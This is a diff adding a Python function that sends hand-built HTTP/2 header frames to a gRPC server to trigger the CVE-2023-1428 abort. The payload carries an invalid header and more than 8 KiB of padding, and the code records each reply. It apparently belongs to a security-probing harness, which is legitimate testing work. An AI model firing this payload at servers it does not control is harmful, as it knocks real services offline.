@@ -40,6 +40,13 @@ class Stranger:
             self.open = False
         return self.open
 
+    def receive_until(self, wanted):
+        """All bytes up to these, or to the end; at most for CONNECT_S between two."""
+        received = b""
+        while wanted not in received and (more := self.socket.recv(65536)):
+            received += more
+        return received
+
     def is_closed(self):
         """Whether the other side has closed it by now."""
         ready = select.poll()  # select() takes no descriptor above 1,023
@@ -112,6 +119,25 @@ def endless_message(address, port, mebibytes=64):
         while taken < mebibytes << 20 and stranger.send(piece) and not stranger.is_closed():
             taken += 16384
         return taken
+
+
+def invalid_headers(address, port):
+    """Headers that make builds of gRPC abort (CVE-2023-1428): one that is invalid, and more than 8 KiB in all. gRPC counts
+    them only for a client that has acknowledged its settings. Returns what it answered to each."""
+    path = (b"\x04" + literal("/muster.v1.Rendezvous/Attend") + b"\x01" + literal("a") + b"\x0f\x10" +
+            literal("application/grpc"))
+    trailers = b"\x00" + literal("te") + literal("trailers")
+    much = b"\x00" + literal("x-a") + b"\x7f\xa9\x45" + b"y" * 9000
+    answers = []
+    for block in (b"\x83\x86" + path + b"\x00" + literal("te") + literal("x"),
+                  b"\x83\x06" + literal("bogus") + path + trailers,
+                  b"\x83\x86" + path + trailers + b"\x00" + literal("grpclb_client_stats") + literal("x")):
+        with contextlib.closing(Stranger(address, port)) as stranger:
+            stranger.send(PREFACE + frame(SETTINGS, 0, 0))
+            answer = stranger.receive_until(b"\0\0\0" + bytes([SETTINGS]) + b"\1")  # it has ours, and has sent its own
+            stranger.send(frame(SETTINGS, 1, 0) + frame(HEADERS, END_HEADERS, 1, block + much))
+            answers.append(answer + stranger.receive_until(b"exceeds limit"))
+    return answers
 
 
 def noise(address, port):
